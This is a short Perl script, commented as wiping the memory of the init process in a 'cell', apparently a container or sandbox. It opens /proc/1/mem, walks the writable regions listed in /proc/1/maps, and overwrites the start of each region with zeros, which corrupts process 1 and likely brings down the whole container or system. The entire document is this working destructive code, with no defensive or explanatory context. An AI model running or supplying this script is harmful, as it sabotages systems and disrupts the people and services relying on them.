# Writes zeros over what the init of the cell has in memory, as far as the kernel lets it.
use strict;
open(my $memory, "+<", "/proc/1/mem") or exit;
open(my $maps, "<", "/proc/1/maps") or exit;
while (<$maps>) {
  next unless /^([0-9a-f]+)-\S+ rw/;
  seek $memory, hex $1, 0;
  syswrite $memory, "\0" x 4096;
}
